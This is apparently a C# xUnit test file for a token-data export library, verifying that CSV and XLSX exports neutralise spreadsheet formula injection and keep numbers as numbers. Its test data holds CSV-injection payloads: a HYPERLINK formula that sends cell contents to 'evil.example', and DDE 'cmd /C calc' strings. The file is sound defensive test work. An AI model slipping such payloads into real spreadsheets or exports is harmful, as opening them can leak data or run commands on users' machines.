using LeveragedTokens.Data.Entities;
using LeveragedTokens.Data.Exports;
using LeveragedTokens.Exports.Tests.Support;
using LeveragedTokens.Exports.Verification;
using ClosedXML.Excel;
using Xunit;

namespace LeveragedTokens.Exports.Tests;

/// <summary>Hostile token symbols must never become formulas, in CSV or XLSX, while numbers stay numbers.</summary>
public sealed class SpreadsheetSafetyTests : IAsyncLifetime
{
    public static readonly string[] HostileSymbols =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "BTC3L, \"the\nbest\"",
    ];

    private ExportDatabase _db = null!;

    public async Task InitializeAsync()
    {
        _db = await ExportDatabase.CreateAsync();
        await using var db = _db.Context();
        db.ReservePools.Add(ChainRows.ReservePool(ChainRows.Registration(0), ChainRows.Pool, underlying: "=cmd|' /C calc'!A0"));
        for (var i = 0; i < HostileSymbols.Length; i++)
        {
            var token = ChainRows.Address(i + 1);
            db.Tokens.Add(ChainRows.LeveragedToken(ChainRows.Registration(i + 1), token, HostileSymbols[i], ChainRows.Pool));
            // Costs above the draw make nav_delta negative: its decimal must stay a plain number.
            db.Rebalances.Add(ChainRows.Rebalance(ChainRows.Hourly.At(10 + i, 0, token), 1, slippage: 5 * Wad.One, draw: 0));
        }
        db.PoolLedger.Add(ChainRows.Ledger(ChainRows.Hourly.At(10, 1, ChainRows.Pool), LedgerEntryKind.ReserveDrawn, Wad.One, counterparty: ChainRows.Address(1), rebalanceId: 1, value: Wad.One));
        db.IndexerStates.Add(ChainRows.Indexed(head: 100));
        await db.SaveChangesAsync();
    }

    public async Task DisposeAsync() => await _db.DisposeAsync();

    [Fact]
    public async Task CsvTextCellsStartingWithFormulaCharactersAreNeutralisedAndNumbersAreNot()
    {
        var (bytes, manifest) = await _db.ExportBytesAsync(new ExportQuery(), ExportFormat.Csv);
        var records = ExportFileReader.CsvRecords(new StringReader(System.Text.Encoding.UTF8.GetString(bytes))).ToList();
        var header = records[0];
        var symbol = Array.IndexOf(header, "token_symbol");
        var delta = Array.IndexOf(header, "nav_delta");
        var deltaDecimal = Array.IndexOf(header, "nav_delta_decimal");
        Assert.Equal(HostileSymbols.Length, manifest.RowCount);

        var symbols = records.Skip(1).Select(r => r[symbol]).ToList();
        foreach (var cell in symbols.Where(s => !s.StartsWith("BTC3L", StringComparison.Ordinal)))
            Assert.StartsWith("'", cell);
        Assert.Equal(HostileSymbols, symbols.Select(SpreadsheetSafety.Restore));
        // RFC 4180: the comma, quote and line break of the last symbol survive quoting.
        Assert.Contains("\"BTC3L, \"\"the\nbest\"\"\"", System.Text.Encoding.UTF8.GetString(bytes));
        foreach (var record in records.Skip(1))
        {
            Assert.StartsWith("-", record[delta]);
            Assert.Equal("-0.0055", record[deltaDecimal]);
        }
        // No cell of any row begins with a formula character unless it is a number.
        foreach (var cell in records.Skip(1).SelectMany(r => r))
            Assert.True(!SpreadsheetSafety.IsDangerous(cell) || decimal.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _), cell);
    }

    [Fact]
    public async Task LedgerPoolAndCounterpartyTextIsNeutralisedToo()
    {
        var (bytes, _) = await _db.ExportBytesAsync(new ExportQuery { Dataset = ExportDataset.ReserveLedger }, ExportFormat.Csv);
        var records = ExportFileReader.CsvRecords(new StringReader(System.Text.Encoding.UTF8.GetString(bytes))).ToList();
        Assert.Equal("'=cmd|' /C calc'!A0", records[1][Array.IndexOf(records[0], "pool_underlying")]);
        Assert.Equal("'" + HostileSymbols[0], records[1][Array.IndexOf(records[0], "counterparty_symbol")]);
    }

    [Fact]
    public async Task XlsxOpenedByAReaderShowsTextAsTextAndNumbersAsNumbers()
    {
        var (bytes, manifest) = await _db.ExportBytesAsync(new ExportQuery(), ExportFormat.Xlsx);
        using var workbook = new XLWorkbook(new MemoryStream(bytes));
        var sheet = workbook.Worksheets.Single();
        var header = sheet.Row(1).CellsUsed().Select(c => c.GetString()).ToList();
        Assert.Equal(manifest.Columns, header);
        int Col(string name) => header.IndexOf(name) + 1;

        for (var r = 2; r <= HostileSymbols.Length + 1; r++)
        {
            var symbolCell = sheet.Cell(r, Col("token_symbol"));
            Assert.False(symbolCell.HasFormula);
            Assert.Equal(XLDataType.Text, symbolCell.DataType);
            Assert.Equal(HostileSymbols[r - 2], SpreadsheetSafety.Restore(symbolCell.GetString()));

            var block = sheet.Cell(r, Col("block_number"));
            Assert.Equal(XLDataType.Number, block.DataType);
            Assert.Equal(10 + r - 2, block.GetDouble());
            Assert.Equal(XLDataType.Number, sheet.Cell(r, Col("log_index")).DataType);
            Assert.Equal(XLDataType.Number, sheet.Cell(r, Col("block_time_unix")).DataType);

            // The exact integer stays text (a double would round it); its scaled decimal is a number.
            var navBefore = sheet.Cell(r, Col("nav_before"));
            Assert.Equal(XLDataType.Text, navBefore.DataType);
            Assert.Equal("100000000000000000000", navBefore.GetString());
            var navBeforeDecimal = sheet.Cell(r, Col("nav_before_decimal"));
            Assert.Equal(XLDataType.Number, navBeforeDecimal.DataType);
            Assert.Equal(100.0, navBeforeDecimal.GetDouble());
            var delta = sheet.Cell(r, Col("nav_delta_decimal"));
            Assert.Equal(XLDataType.Number, delta.DataType);
            Assert.True(delta.GetDouble() < 0);

            Assert.Equal(XLDataType.Boolean, sheet.Cell(r, Col("is_buy")).DataType);
            Assert.Equal("https://explorer.example/tx/" + ChainRows.TxHash(10 + r - 2, 0), sheet.Cell(r, Col("explorer_url")).GetString());
        }
    }
}
